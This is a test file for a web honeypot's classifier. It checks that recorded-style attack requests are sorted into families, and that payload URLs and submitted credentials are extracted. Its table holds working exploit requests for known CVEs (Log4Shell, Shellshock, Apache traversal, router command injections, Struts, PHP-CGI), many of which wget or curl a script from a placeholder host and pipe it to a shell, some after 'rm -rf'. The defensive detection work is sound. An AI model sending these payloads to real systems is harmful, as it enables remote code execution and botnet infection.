import { describe, expect, test } from "bun:test";
import { classify, FAMILY_NAMES } from "../../src/honeypots/web/classify";
import { credentials } from "../../src/honeypots/web/forms";
import { parseHead } from "../../src/honeypots/web/http-parse";
import { payloadUrls } from "../../src/honeypots/web/payloads";
import { views } from "../../src/honeypots/web/views";

/** A request as it came off the wire (head and body), in the form the classifier reads. */
function recorded(raw: string) {
  const bytes = Buffer.from(raw.replace(/\n/g, "\r\n").replace(/\r\n\r\n([\s\S]*)$/, (_, body: string) => `\r\n\r\n${body.replace(/\r\n/g, "\n")}`), "latin1");
  const parsed = parseHead(bytes);
  if (parsed.kind !== "head") throw new Error(`unparsed: ${JSON.stringify(parsed)}`);
  const { head } = parsed;
  return { method: head.method, target: head.target, headers: head.headers, body: bytes.subarray(parsed.consumed).toString("latin1") };
}

const families = (raw: string) => classify(recorded(raw)).map((f) => f.family);
const indicator = (raw: string, family: string) => classify(recorded(raw)).find((f) => f.family === family)?.indicator;

/** Requests as botnets and scanners send them, one or more per family: the families found, and the indicator of the first. */
const EXPLOITS: [string, string, string[], string][] = [
  [
    "Apache 2.4.49 path traversal to /bin/sh (CVE-2021-41773)",
    "POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1\nHost: 203.0.113.10\nUser-Agent: Mozilla/5.0\nContent-Type: text/plain\nContent-Length: 80\n\necho Content-Type: text/plain; echo; (wget -qO- http://198.51.100.7/a.sh||curl http://198.51.100.7/a.sh)|sh",
    ["path_traversal", "command_injection"],
    ".%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/bin/sh",
  ],
  ["a file parameter climbing to /etc/passwd", "GET /index.php?page=../../../../etc/passwd HTTP/1.1\nHost: x\n\n", ["path_traversal"], "../../../../etc/passwd"],
  ["a .env probe", "GET /.env HTTP/1.1\nHost: 203.0.113.10\nUser-Agent: Mozilla/5.0 (l9explore/1.2.2)\nAccept-Encoding: gzip\n\n", ["env_probe"], "/.env"],
  ["a .env probe in a subfolder", "GET /api/.env.production HTTP/1.1\nHost: x\n\n", ["env_probe"], "/.env.production"],
  ["a .git probe", "GET /.git/config HTTP/1.1\nHost: 203.0.113.10\nUser-Agent: Mozilla/5.0 zgrab/0.x\n\n", ["git_probe"], "/.git/config"],
  [
    "PHPUnit eval-stdin (CVE-2017-9841)",
    'POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\nHost: 203.0.113.10\nUser-Agent: Custom-AsyncHttpClient\nContent-Type: text/plain\nContent-Length: 34\n\n<?php echo(md5("Hello PHPUnit"));',
    ["phpunit_eval_stdin"],
    "/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
  ],
  ["Log4Shell in the User-Agent", `GET / HTTP/1.1\nHost: 203.0.113.10\nUser-Agent: \${jndi:ldap://198.51.100.7:1389/Exploit}\n\n`, ["log4shell"], `\${jndi:ldap://198.51.100.7:1389/Exploit}`],
  [
    "Log4Shell hidden behind lookups",
    `GET /?x=1 HTTP/1.1\nHost: x\nX-Api-Version: \${\${lower:j}\${::-n}\${::-d}\${upper:i}:\${env:NaN:-l}dap://198.51.100.7/a}\n\n`,
    ["log4shell"],
    `\${jndi:ldap://198.51.100.7/a}`,
  ],
  [
    "Log4Shell in the query, URL-encoded",
    "GET /?q=%24%7Bjndi%3Armi%3A%2F%2F198.51.100.7%3A1099%2Fobj%7D HTTP/1.1\nHost: x\n\n",
    ["log4shell"],
    `\${jndi:rmi://198.51.100.7:1099/obj}`,
  ],
  [
    "Shellshock in the User-Agent (CVE-2014-6271)",
    'GET /cgi-bin/test.cgi HTTP/1.1\nHost: 203.0.113.10\nUser-Agent: () { :; }; /bin/bash -c "wget http://198.51.100.7/x.sh -O /tmp/x.sh; sh /tmp/x.sh"\n\n',
    ["shellshock"],
    '() { :; }; /bin/bash -c "wget http://198.51.100.7/x.sh -O /tmp/x.sh; sh /tmp/x.sh"',
  ],
  [
    "JAWS DVR shell",
    "GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws;sh+/tmp/jaws HTTP/1.1\nUser-Agent: Hello, world\nHost: 127.0.0.1:80\nAccept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\nConnection: keep-alive\n\n",
    ["router_cgi", "command_injection"],
    "/shell",
  ],
  [
    "GPON router ping injection (CVE-2018-10561)",
    "POST /GponForm/diag_Form?images/ HTTP/1.1\nHost: 127.0.0.1:8080\nConnection: keep-alive\nAccept-Encoding: gzip, deflate\nAccept: */*\nUser-Agent: Hello, World\nContent-Length: 118\n\nXWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://198.51.100.7/gpon+-O+/tmp/gaf;sh+/tmp/gaf`&ipv=0",
    ["router_cgi", "command_injection"],
    "/GponForm/",
  ],
  [
    "TP-Link Archer locale injection (CVE-2023-1389)",
    "GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(cd%20/tmp;%20wget%20http://198.51.100.7/tp.sh;%20sh%20tp.sh) HTTP/1.1\nHost: x\n\n",
    ["router_cgi", "command_injection"],
    "/cgi-bin/luci",
  ],
  [
    "Netgear setup.cgi (Mozi)",
    "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.7:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0\n\n",
    ["router_cgi", "command_injection"],
    "/setup.cgi",
  ],
  ["D-Link HNAP", 'POST /HNAP1/ HTTP/1.0\nContent-Type: text/xml; charset="utf-8"\nSOAPAction: http://purenetworks.com/HNAP1/`cd /tmp && wget http://198.51.100.7/d`\nContent-Length: 0\n\n', ["router_cgi"], "/HNAP1"],
  ["WordPress login probe", "GET /wp-login.php HTTP/1.1\nHost: x\n\n", ["wordpress_probe"], "/wp-login.php"],
  ["WordPress manifest probe", "GET /blog/wp-includes/wlwmanifest.xml HTTP/1.1\nHost: x\n\n", ["wordpress_probe"], "/wp-includes/wlwmanifest.xml"],
  ["WordPress user enumeration", "GET /?rest_route=/wp/v2/users HTTP/1.1\nHost: x\n\n", ["wordpress_probe"], "rest_route=/wp/v2/users"],
  [
    "Spring4Shell (CVE-2022-22965)",
    "POST / HTTP/1.1\nHost: x\nContent-Type: application/x-www-form-urlencoded\nContent-Length: 100\n\nclass.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
    ["spring4shell"],
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
  ],
  ["Spring Boot actuator", "GET /actuator/env HTTP/1.1\nHost: x\n\n", ["spring_actuator"], "/actuator/env"],
  [
    "PHP-CGI argument injection with a soft hyphen (CVE-2024-4577)",
    "POST /php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input HTTP/1.1\nHost: x\nContent-Type: application/x-www-form-urlencoded\nContent-Length: 31\n\n<?php echo 'vulnerable'; die; ?>",
    ["php_cgi_arg_injection"],
    "%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
  ],
  ["PHP-CGI argument injection (CVE-2012-1823)", "POST /index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp%3a//input HTTP/1.1\nHost: x\n\n", ["php_cgi_arg_injection"], "-d+allow_url_include%3don+-d+auto_prepend_file%3dphp%3a//input"],
  [
    "ThinkPHP invokefunction (CVE-2018-20062)",
    "GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21 HTTP/1.1\nHost: x\nUser-Agent: Mozilla/5.0\n\n",
    ["think_php"],
    "\\think\\app/invokefunction",
  ],
  ["a web shell probe", "GET /wp-content/plugins/hello/alfa-rex.php HTTP/1.1\nHost: x\n\n", ["wordpress_probe", "webshell_probe"], "/alfa-rex.php"],
  ["a generic command injection", "GET /cgi-bin/ping.cgi?ip=127.0.0.1;wget%20http://198.51.100.7/bins.sh HTTP/1.1\nHost: x\n\n", ["command_injection"], ";wget http://198.51.100.7/bins.sh"],
  ["SQL injection", "GET /index.php?id=1%20UNION%20ALL%20SELECT%20NULL,concat(0x7178,0x71)-- HTTP/1.1\nHost: x\n\n", ["sql_injection"], "UNION ALL SELECT"],
  [
    "Struts OGNL in Content-Type (CVE-2017-5638)",
    "GET /struts2-showcase/index.action HTTP/1.1\nHost: x\nContent-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}\n\n",
    ["ognl_injection"],
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')",
  ],
  ["FortiOS credential leak (CVE-2018-13379)", "GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession HTTP/1.1\nHost: x\n\n", ["path_traversal", "appliance_probe"], "../../../..//////////dev/cmdb/sslvpn_websession"],
  ["F5 BIG-IP iControl (CVE-2022-1388)", 'POST /mgmt/tm/util/bash HTTP/1.1\nHost: x\nConnection: keep-alive, X-F5-Auth-Token\nX-F5-Auth-Token: a\nAuthorization: Basic YWRtaW46\nContent-Length: 41\n\n{"command":"run","utilCmdArgs":"-c id"}', ["appliance_probe"], "/mgmt/tm/"],
  ["phpMyAdmin probe", "GET /phpmyadmin/index.php HTTP/1.1\nHost: x\n\n", ["phpmyadmin_probe"], "/phpmyadmin/"],
  ["an open-proxy check", "CONNECT www.google.com:443 HTTP/1.1\nHost: www.google.com:443\n\n", ["proxy_probe"], "CONNECT www.google.com:443"],
  ["an open-proxy check by absolute URL", "GET http://azenv.net/ HTTP/1.1\nHost: azenv.net\n\n", ["proxy_probe"], "http://azenv.net"],
  ["Exchange ProxyShell probe", "GET /autodiscover/autodiscover.json?@zdi/Powershell HTTP/1.1\nHost: x\n\n", ["exchange_probe"], "/autodiscover/autodiscover.json"],
];

describe("exploit families", () => {
  test.each(EXPLOITS)("%s", (_name, raw, expected, expectedIndicator) => {
    expect(families(raw)).toEqual(expected);
    expect(indicator(raw, expected[0]!)).toContain(expectedIndicator);
  });

  test("every family in the table has a recorded request above", () => {
    const covered = new Set(EXPLOITS.flatMap(([, , f]) => f));
    expect(FAMILY_NAMES.filter((f) => !covered.has(f))).toEqual([]);
  });

  test.each([
    ["curl's GET /", "GET / HTTP/1.1\nHost: 127.0.0.1:8081\nUser-Agent: curl/7.88.1\nAccept: */*\n\n"],
    [
      "a browser's visit",
      "GET /index.php?page=about HTTP/1.1\nHost: www.example.org\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\nAccept: text/html,application/xhtml+xml\nAccept-Language: en-US,en;q=0.5\nCookie: PHPSESSID=abc; theme=dark\nReferer: https://www.example.org/\n\n",
    ],
    ["robots.txt", "GET /robots.txt HTTP/1.1\nHost: x\nUser-Agent: Googlebot/2.1\n\n"],
    ["a login posted to the portal", "POST /index.php HTTP/1.1\nHost: x\nContent-Type: application/x-www-form-urlencoded\nContent-Length: 30\n\nusername=alice&password=s3cret"],
    ["a JSON API call", 'POST /api/v1/items HTTP/1.1\nHost: x\nContent-Type: application/json\n\n{"name":"widget","tags":["a","b"]}'],
  ])("no family for %s", (_name, raw) => {
    expect(classify(recorded(raw))).toEqual([]);
  });

  test("bodies built to make regexes backtrack are classified in bounded time", () => {
    const body = `\${a:${":-".repeat(120_000)}`;
    const started = performance.now();
    classify({ method: "POST", target: "/", headers: [["User-Agent", `() {${" ".repeat(8000)}`]], body: `${body}${"() {".repeat(5000)}` });
    // Far from the line: a quadratic pattern takes minutes on these, the table milliseconds.
    expect(performance.now() - started).toBeLessThan(20_000);
  });
});

describe("payload URLs", () => {
  const urls = (raw: string) => payloadUrls(views(recorded(raw)));

  test("from an injected command, with or without a scheme, and never the jndi server", () => {
    expect(urls(EXPLOITS.find(([n]) => n.startsWith("JAWS"))![1])).toEqual(["http://198.51.100.7/jaws"]);
    expect(urls(EXPLOITS.find(([n]) => n.startsWith("Shellshock"))![1])).toEqual(["http://198.51.100.7/x.sh"]);
    expect(urls(EXPLOITS.find(([n]) => n.startsWith("Netgear"))![1])).toEqual(["http://198.51.100.7:8088/Mozi.m"]);
    expect(urls("GET /x?c=;wget%20198.51.100.7/bins/mips;chmod+777+mips HTTP/1.1\nHost: x\n\n")).toEqual(["http://198.51.100.7/bins/mips"]);
    expect(urls(EXPLOITS.find(([n]) => n === "Log4Shell in the User-Agent")![1])).toEqual([]);
  });

  test("from the base64 command of a Log4Shell lookup", () => {
    expect(urls(`GET / HTTP/1.1\nHost: x\nUser-Agent: \${jndi:ldap://198.51.100.7:1389/Basic/Command/Base64/d2dldCBodHRwOi8vMS4yLjMuNC9sNC5zaCAtTyAtfHNo}\n\n`)).toEqual(["http://1.2.3.4/l4.sh"]);
  });

  test("not from Host, Referer or Origin, at most five, nothing that is not a URL", () => {
    expect(urls("GET /;wget HTTP/1.1\nHost: x\nReferer: http://198.51.100.7/page\nOrigin: http://198.51.100.7\n\n")).toEqual([]);
    const many = Array.from({ length: 20 }, (_, i) => `wget+http://198.51.100.${i}/x`).join(";");
    expect(urls(`GET /shell?${many} HTTP/1.1\nHost: x\n\n`)).toHaveLength(5);
    expect(urls("GET /shell?wget+http://[oops/x HTTP/1.1\nHost: x\n\n")).toEqual([]);
  });
});

describe("credentials", () => {
  const creds = (raw: string) => {
    const r = recorded(raw);
    const q = r.target.indexOf("?");
    return credentials({ method: r.method, query: q < 0 ? "" : r.target.slice(q + 1), headers: r.headers, body: r.body });
  };

  test("a form with the field names of several products", () => {
    expect(creds("POST /index.php HTTP/1.1\nHost: x\nContent-Type: application/x-www-form-urlencoded\n\nusername=admin&password=admin123")).toEqual([{ username: "admin", password: "admin123", auth: "form" }]);
    expect(creds("POST /boaform/admin/formLogin HTTP/1.1\nHost: x\n\nusername=admin&psd=Feefifofum")).toEqual([{ username: "admin", password: "Feefifofum", auth: "form" }]);
    expect(creds("POST /cgi-bin/luci HTTP/1.1\nHost: x\n\nluci_username=root&luci_password=admin")).toEqual([{ username: "root", password: "admin", auth: "form" }]);
    expect(creds("POST /site/login HTTP/1.1\nHost: x\n\nLoginForm%5Busername%5D=demo&LoginForm%5Bpassword%5D=demo")).toEqual([{ username: "demo", password: "demo", auth: "form" }]);
    expect(creds('POST /api/login HTTP/1.1\nHost: x\nContent-Type: application/json\n\n{"email":"a@b.c","password":"hunter2"}')).toEqual([{ username: "a@b.c", password: "hunter2", auth: "form" }]);
    expect(creds("GET /login.cgi?user=admin&pwd=1234 HTTP/1.1\nHost: x\n\n")).toEqual([{ username: "admin", password: "1234", auth: "form" }]);
  });

  test("HTTP Basic, and nothing where there is no password", () => {
    expect(creds("GET / HTTP/1.1\nHost: x\nAuthorization: Basic cm9vdDp2aXp4dg==\n\n")).toEqual([{ username: "root", password: "vizxv", auth: "basic" }]);
    expect(creds("POST /search HTTP/1.1\nHost: x\n\nq=hello&user=bob")).toEqual([]);
    expect(creds("GET / HTTP/1.1\nHost: x\nAuthorization: Bearer abc\n\n")).toEqual([]);
  });
});
